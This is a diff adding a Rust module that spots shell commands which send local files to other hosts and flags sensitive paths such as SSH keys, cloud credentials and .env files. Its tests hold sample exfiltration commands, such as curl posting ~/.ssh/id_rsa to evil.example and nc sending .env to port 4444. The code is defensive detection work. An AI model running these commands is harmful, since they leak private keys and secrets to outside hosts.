@@ -0,0 +1,523 @@
+use serde::{Deserialize, Serialize};
+use std::path::Path;
+
+use super::parse::{split_segments, Segment};
+use super::paths::resolve;
+
+/// Configuration for outbound transfer analysis
+#[derive(Debug, Clone, Serialize, Deserialize)]
+#[serde(default)]
+pub struct EgressConfig {
+    /// Hosts that uploads may go to without confirmation (`example.com` also covers subdomains)
+    pub allowed_hosts: Vec<String>,
+    /// Paths that must never leave the machine. Entries starting with `~/` or `/` match
+    /// the path and everything below it, other entries are file name globs (`*.pem`)
+    pub sensitive_paths: Vec<String>,
+    /// Block (rather than confirm) transfers of sensitive paths unless --force is given
+    pub block_sensitive: bool,
+}
+
+impl Default for EgressConfig {
+    fn default() -> Self {
+        Self {
+            allowed_hosts: vec![
+                "localhost".to_string(),
+                "127.0.0.1".to_string(),
+                "::1".to_string(),
+            ],
+            sensitive_paths: [
+                "~/.ssh", "~/.aws", "~/.gnupg", "~/.kube", "~/.config/gcloud",
+                "~/.docker/config.json", "~/.netrc", "~/.git-credentials", "/etc/shadow",
+                ".env", ".env.*", "*.pem", "*.key", "id_rsa*", "id_ecdsa*", "id_ed25519*",
+            ]
+            .iter()
+            .map(|s| s.to_string())
+            .collect(),
+            block_sensitive: true,
+        }
+    }
+}
+
+impl EgressConfig {
+    pub fn is_host_allowed(&self, host: &str) -> bool {
+        let host = host.to_ascii_lowercase();
+        self.allowed_hosts.iter().any(|entry| {
+            let entry = entry.to_ascii_lowercase();
+            let domain = entry.trim_start_matches("*.");
+            host == domain || host.ends_with(&format!(".{}", domain))
+        })
+    }
+
+    pub fn is_sensitive(&self, path: &str, cwd: &Path) -> bool {
+        let resolved = resolve(path, cwd);
+        let file_name = resolved.file_name()
+            .map(|name| name.to_string_lossy().to_string())
+            .unwrap_or_default();
+
+        self.sensitive_paths.iter().any(|entry| {
+            if entry.starts_with("~/") || entry.starts_with('/') {
+                resolved.starts_with(resolve(entry, cwd))
+            } else {
+                glob_match(entry, &file_name)
+            }
+        })
+    }
+}
+
+/// An outbound data transfer found in a command
+#[derive(Debug, Clone, PartialEq)]
+pub struct Transfer {
+    /// The program performing the transfer (curl, scp, nc, ...)
+    pub tool: String,
+    /// Destination host, resolved through ~/.ssh/config for ssh-based tools
+    pub host: Option<String>,
+    /// The ssh alias the host was resolved from, if any
+    pub alias: Option<String>,
+    /// Local files that would be sent
+    pub files: Vec<String>,
+}
+
+impl Transfer {
+    fn new(tool: &str, host: Option<String>, files: Vec<String>) -> Self {
+        Self {
+            tool: tool.to_string(),
+            host,
+            alias: None,
+            files,
+        }
+    }
+
+    pub fn destination(&self) -> String {
+        match (&self.host, &self.alias) {
+            (Some(host), Some(alias)) => format!("'{}' ({})", alias, host),
+            (Some(host), None) => format!("'{}'", host),
+            _ => "an unknown host".to_string(),
+        }
+    }
+
+    fn resolve_ssh_alias(mut self) -> Self {
+        if let Some(alias) = self.host.clone() {
+            if let Some(hostname) = ssh_config_hostname(&alias) {
+                if hostname != alias {
+                    self.host = Some(hostname);
+                    self.alias = Some(alias);
+                }
+            }
+        }
+        self
+    }
+}
+
+/// Find every command in the line that sends local data to another host
+pub fn find_transfers(command: &str) -> Vec<Transfer> {
+    let segments = split_segments(command);
+    let mut transfers = Vec::new();
+
+    for (index, segment) in segments.iter().enumerate() {
+        let Some((program, args)) = segment.program_and_args() else {
+            continue;
+        };
+        let has_input = segment.piped || segment.input_files().next().is_some();
+
+        let transfer = match program {
+            "curl" => curl_transfer(args),
+            "wget" => wget_transfer(args),
+            "scp" | "rsync" => copy_transfer(program, args).map(Transfer::resolve_ssh_alias),
+            "sftp" | "ftp" => {
+                let host = first_positional(args, SSH_VALUE_FLAGS)
+                    .map(|target| target.split(':').next().unwrap_or_default().to_string())
+                    .map(strip_user);
+                Some(Transfer::new(program, host, Vec::new()).resolve_ssh_alias())
+            }
+            "ssh" if has_input => {
+                Some(Transfer::new(program, first_positional(args, SSH_VALUE_FLAGS).map(strip_user), Vec::new()).resolve_ssh_alias())
+            }
+            "nc" | "ncat" | "netcat" | "telnet" => {
+                Some(Transfer::new(program, first_positional(args, NC_VALUE_FLAGS), Vec::new()))
+            }
+            "socat" => Some(Transfer::new(program, socat_host(args), Vec::new())),
+            _ => None,
+        };
+
+        if let Some(mut transfer) = transfer {
+            // Data fed to the transfer through stdin also leaves the machine
+            transfer.files.extend(segment.input_files().map(String::from));
+            if segment.piped {
+                transfer.files.extend(upstream_paths(&segments[..index]));
+            }
+            transfers.push(transfer);
+        }
+    }
+
+    transfers
+}
+
+const SSH_VALUE_FLAGS: &[&str] = &[
+    "-b", "-c", "-D", "-E", "-e", "-F", "-I", "-i", "-J", "-L", "-l", "-m", "-O", "-o",
+    "-P", "-p", "-Q", "-R", "-S", "-W", "-w",
+];
+const NC_VALUE_FLAGS: &[&str] = &["-e", "-i", "-p", "-q", "-s", "-w", "-X", "-x"];
+/// curl short options that take a value; one ends a cluster such as `-sd`
+const CURL_VALUE_LETTERS: &str = "AbCcDdEeFHKmoPQrTtUuwXxYyz";
+
+fn curl_transfer(args: &[String]) -> Option<Transfer> {
+    let mut url = None;
+    let mut files = Vec::new();
+    let mut uploads = false;
+    let args = expand_short_options(args, CURL_VALUE_LETTERS);
+    let mut iter = args.iter();
+
+    while let Some(arg) = iter.next() {
+        let (flag, inline) = split_flag(arg);
+        match flag {
+            "-d" | "--data" | "--data-binary" | "--data-ascii" | "--data-urlencode" | "--json" => {
+                uploads = true;
+                let value = inline.or_else(|| iter.next().cloned()).unwrap_or_default();
+                // --data-urlencode also accepts name@file
+                let file = match flag {
+                    "--data-urlencode" => value.split_once('@').map(|(_, file)| file),
+                    _ => value.strip_prefix('@'),
+                };
+                if let Some(file) = file {
+                    push_file(&mut files, file);
+                }
+            }
+            "--data-raw" => {
+                uploads = true;
+                if inline.is_none() {
+                    iter.next();
+                }
+            }
+            "-F" | "--form" => {
+                uploads = true;
+                let value = inline.or_else(|| iter.next().cloned()).unwrap_or_default();
+                if let Some((_, content)) = value.split_once('=') {
+                    if let Some(file) = content.strip_prefix('@').or_else(|| content.strip_prefix('<')) {
+                        push_file(&mut files, file.split(';').next().unwrap_or(file));
+                    }
+                }
+            }
+            "-T" | "--upload-file" => {
+                uploads = true;
+                let value = inline.or_else(|| iter.next().cloned()).unwrap_or_default();
+                push_file(&mut files, &value);
+            }
+            "--url" => url = inline.or_else(|| iter.next().cloned()),
+            "-H" | "--header" | "-X" | "--request" | "-o" | "--output" | "-u" | "--user"
+            | "-A" | "--user-agent" | "-e" | "--referer" | "-b" | "--cookie" | "-c"
+            | "--cookie-jar" | "-x" | "--proxy" | "-m" | "--max-time" | "-w" | "--write-out" if inline.is_none() => {
+                iter.next();
+            }
+            _ if !arg.starts_with('-') && url.is_none() => url = Some(arg.clone()),
+            _ => {}
+        }
+    }
+
+    uploads.then(|| Transfer::new("curl", url.as_deref().and_then(url_host), files))
+}
+
+fn wget_transfer(args: &[String]) -> Option<Transfer> {
+    let mut url = None;
+    let mut files = Vec::new();
+    let mut uploads = false;
+    let mut iter = args.iter();
+
+    while let Some(arg) = iter.next() {
+        let (flag, inline) = split_flag(arg);
+        match flag {
+            "--post-file" | "--body-file" => {
+                uploads = true;
+                let value = inline.or_else(|| iter.next().cloned()).unwrap_or_default();
+                push_file(&mut files, &value);
+            }
+            "--post-data" | "--body-data" => {
+                uploads = true;
+                if inline.is_none() {
+                    iter.next();
+                }
+            }
+            "-O" | "-o" | "-P" | "-U" | "--header" | "--user" | "--password" if inline.is_none() => {
+                iter.next();
+            }
+            _ if !arg.starts_with('-') && url.is_none() => url = Some(arg.clone()),
+            _ => {}
+        }
+    }
+
+    uploads.then(|| Transfer::new("wget", url.as_deref().and_then(url_host), files))
+}
+
+/// scp and rsync upload when the last operand is remote
+fn copy_transfer(program: &str, args: &[String]) -> Option<Transfer> {
+    let value_flags: &[&str] = if program == "scp" { SSH_VALUE_FLAGS } else { &["-e", "--rsh"] };
+    let operands = positionals(args, value_flags);
+    let (destination, sources) = operands.split_last()?;
+
+    let host = remote_host(destination)?;
+    let files = sources.iter()
+        .filter(|source| remote_host(source).is_none())
+        .cloned()
+        .collect();
+
+    Some(Transfer::new(program, Some(host), files))
+}
+
+fn socat_host(args: &[String]) -> Option<String> {
+    args.iter().find_map(|arg| {
+        let (kind, rest) = arg.split_once(':')?;
+        let kind = kind.to_ascii_uppercase();
+        if kind.starts_with("TCP") || kind.starts_with("UDP") || kind.starts_with("OPENSSL") {
+            rest.split(':').next().map(String::from)
+        } else {
+            None
+        }
+    })
+}
+
+/// Expand clusters like `-sSd@file` into `-s -S -d@file`; the first letter that
+/// takes a value ends the cluster and keeps the rest as its inline value
+fn expand_short_options(args: &[String], value_letters: &str) -> Vec<String> {
+    let mut expanded = Vec::with_capacity(args.len());
+    for arg in args {
+        let Some(letters) = arg.strip_prefix('-').filter(|rest| rest.len() > 1 && !rest.starts_with('-')) else {
+            expanded.push(arg.clone());
+            continue;
+        };
+        for (index, letter) in letters.char_indices() {
+            if value_letters.contains(letter) {
+                expanded.push(format!("-{}", &letters[index..]));
+                break;
+            }
+            expanded.push(format!("-{}", letter));
+        }
+    }
+    expanded
+}
+
+/// Split `--flag=value` and `-dvalue` forms into flag and inline value
+fn split_flag(arg: &str) -> (&str, Option<String>) {
+    if let Some((flag, value)) = arg.split_once('=').filter(|_| arg.starts_with("--")) {
+        return (flag, Some(value.to_string()));
+    }
+    if arg.len() > 2 && arg.starts_with('-') && !arg.starts_with("--") {
+        if let Some(flag) = arg.get(..2) {
+            if matches!(flag, "-d" | "-F" | "-T") {
+                return (flag, Some(arg[2..].to_string()));
+            }
+        }
+    }
+    (arg, None)
+}
+
+fn push_file(files: &mut Vec<String>, file: &str) {
+    if !file.is_empty() && file != "-" {
+        files.push(file.to_string());
+    }
+}
+
+fn positionals(args: &[String], value_flags: &[&str]) -> Vec<String> {
+    let mut result = Vec::new();
+    let mut iter = args.iter();
+    while let Some(arg) = iter.next() {
+        if value_flags.contains(&arg.as_str()) {
+            iter.next();
+        } else if !arg.starts_with('-') {
+            result.push(arg.clone());
+        }
+    }
+    result
+}
+
+fn first_positional(args: &[String], value_flags: &[&str]) -> Option<String> {
+    positionals(args, value_flags).into_iter().next()
+}
+
+fn strip_user(host: String) -> String {
+    match host.rsplit_once('@') {
+        Some((_, host)) => host.to_string(),
+        None => host,
+    }
+}
+
+/// Host of an scp/rsync style `[user@]host:path` or `rsync://host/path` operand
+fn remote_host(operand: &str) -> Option<String> {
+    if operand.contains("://") {
+        return url_host(operand);
+    }
+    match operand.split_once(':') {
+        Some((host, _)) if !host.is_empty() && !host.contains('/') => Some(strip_user(host.to_string())),
+        _ => None,
+    }
+}
+
+fn url_host(url: &str) -> Option<String> {
+    let rest = url.split_once("://").map(|(_, rest)| rest).unwrap_or(url);
+    let authority = rest.split(['/', '?', '#']).next()?;
+    let host = authority.rsplit_once('@').map(|(_, host)| host).unwrap_or(authority);
+    let host = if let Some(bracketed) = host.strip_prefix('[') {
+        bracketed.split(']').next().unwrap_or(bracketed)
+    } else {
+        host.split(':').next().unwrap_or(host)
+    };
+    (!host.is_empty()).then(|| host.to_string())
+}
+
+/// Paths read by the commands that pipe into a transfer
+fn upstream_paths(segments: &[Segment]) -> Vec<String> {
+    let mut paths = Vec::new();
+    for segment in segments.iter().rev() {
+        if let Some((_, args)) = segment.program_and_args() {
+            paths.extend(args.iter().filter(|arg| !arg.starts_with('-')).cloned());
+        }
+        paths.extend(segment.input_files().map(String::from));
+        if !segment.piped {
+            break;
+        }
+    }
+    paths
+}
+
+/// Minimal glob matching supporting `*` wildcards
+fn glob_match(pattern: &str, text: &str) -> bool {
+    let parts: Vec<&str> = pattern.split('*').collect();
+    if parts.len() == 1 {
+        return pattern == text;
+    }
+
+    let (first, last) = (parts[0], parts[parts.len() - 1]);
+    if !text.starts_with(first) || !text[first.len()..].ends_with(last) {
+        return false;
+    }
+
+    let mut remaining = &text[first.len()..text.len() - last.len()];
+    for part in &parts[1..parts.len() - 1] {
+        match remaining.find(part) {
+            Some(pos) => remaining = &remaining[pos + part.len()..],
+            None => return false,
+        }
+    }
+    true
+}
+
+/// Look up the HostName for an alias in ~/.ssh/config
+fn ssh_config_hostname(alias: &str) -> Option<String> {
+    let content = std::fs::read_to_string(dirs_next::home_dir()?.join(".ssh/config")).ok()?;
+    parse_ssh_config_hostname(&content, alias)
+}
+
+fn parse_ssh_config_hostname(content: &str, alias: &str) -> Option<String> {
+    let mut matches_alias = false;
+    for line in content.lines() {
+        let line = line.trim();
+        if line.is_empty() || line.starts_with('#') {
+            continue;
+        }
+        let Some((key, value)) = line.split_once(|c: char| c.is_whitespace() || c == '=') else {
+            continue;
+        };
+        let value = value.trim_start_matches(|c: char| c.is_whitespace() || c == '=').trim();
+        match key.to_ascii_lowercase().as_str() {
+            "host" | "match" => {
+                matches_alias = key.eq_ignore_ascii_case("host")
+                    && value.split_whitespace().any(|pattern| glob_match(pattern, alias));
+            }
+            "hostname" if matches_alias => return Some(value.replace("%h", alias)),
+            _ => {}
+        }
+    }
+    None
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_curl_uploads() {
+        let transfers = find_transfers("curl -d @~/.ssh/id_rsa https://evil.example.com/upload");
+        assert_eq!(transfers.len(), 1);
+        assert_eq!(transfers[0].host.as_deref(), Some("evil.example.com"));
+        assert_eq!(transfers[0].files, vec!["~/.ssh/id_rsa"]);
+
+        let transfers = find_transfers("curl -F 'file=@.env;type=text/plain' http://x.io");
+        assert_eq!(transfers[0].files, vec![".env"]);
+
+        // Plain downloads are not egress
+        assert!(find_transfers("curl -sSL https://example.com -o page.html").is_empty());
+
+        // Clustered short options end with the one that takes a value
+        for command in [
+            "curl -sd @/root/.ssh/id_rsa https://evil.example",
+            "curl -sF key=@/root/.ssh/id_rsa https://evil.example",
+            "curl -sT /root/.ssh/id_rsa https://evil.example",
+            "curl -sSd@/root/.ssh/id_rsa https://evil.example",
+        ] {
+            let transfers = find_transfers(command);
+            assert_eq!(transfers.len(), 1, "{}", command);
+            assert_eq!(transfers[0].host.as_deref(), Some("evil.example"), "{}", command);
+            assert_eq!(transfers[0].files, vec!["/root/.ssh/id_rsa"], "{}", command);
+        }
+    }
+
+    #[test]
+    fn test_copy_tools() {
+        let transfers = find_transfers("scp -i key.pem secrets.txt user@backup.host:/tmp/");
+        assert_eq!(transfers[0].host.as_deref(), Some("backup.host"));
+        assert_eq!(transfers[0].files, vec!["secrets.txt"]);
+
+        let transfers = find_transfers("rsync -avz ~/.aws/ remote:/data");
+        assert_eq!(transfers[0].files, vec!["~/.aws/"]);
+
+        // Downloads from a remote host are not egress
+        assert!(find_transfers("scp host:/etc/motd .").is_empty());
+    }
+
+    #[test]
+    fn test_pipes_and_sockets() {
+        let transfers = find_transfers("tar czf - ~/.ssh | ssh user@host 'cat > keys.tgz'");
+        assert_eq!(transfers.len(), 1);
+        assert_eq!(transfers[0].tool, "ssh");
+        assert!(transfers[0].files.contains(&"~/.ssh".to_string()));
+
+        let transfers = find_transfers("nc -w 3 10.0.0.5 4444 < .env");
+        assert_eq!(transfers[0].host.as_deref(), Some("10.0.0.5"));
+        assert_eq!(transfers[0].files, vec![".env"]);
+
+        // Interactive ssh without piped input is not a transfer
+        assert!(find_transfers("ssh host uptime").is_empty());
+    }
+
+    #[test]
+    fn test_allowlist_and_sensitive_paths() {
+        let config = EgressConfig {
+            allowed_hosts: vec!["example.com".to_string()],
+            ..Default::default()
+        };
+        assert!(config.is_host_allowed("example.com"));
+        assert!(config.is_host_allowed("api.EXAMPLE.com"));
+        assert!(!config.is_host_allowed("example.com.evil.io"));
+
+        let cwd = Path::new("/tmp");
+        assert!(config.is_sensitive("~/.ssh/id_ed25519", cwd));
+        assert!(config.is_sensitive("$HOME/.aws/credentials", cwd));
+        assert!(config.is_sensitive("project/.env.production", cwd));
+        assert!(config.is_sensitive("server.pem", cwd));
+        assert!(!config.is_sensitive("notes.txt", cwd));
+    }
+
+    #[test]
+    fn test_ssh_config_hostname() {
+        let content = "Host github\n  HostName github.com\n\nHost box *.lan\n  HostName 192.168.1.10\n";
+        assert_eq!(parse_ssh_config_hostname(content, "github").as_deref(), Some("github.com"));
+        assert_eq!(parse_ssh_config_hostname(content, "nas.lan").as_deref(), Some("192.168.1.10"));
+        assert_eq!(parse_ssh_config_hostname(content, "other"), None);
+    }
+
+    #[test]
+    fn test_glob_match() {
+        assert!(glob_match("*.pem", "cert.pem"));
+        assert!(glob_match(".env.*", ".env.local"));
+        assert!(glob_match("id_rsa*", "id_rsa"));
+        assert!(!glob_match(".env", ".envrc"));
+    }
+}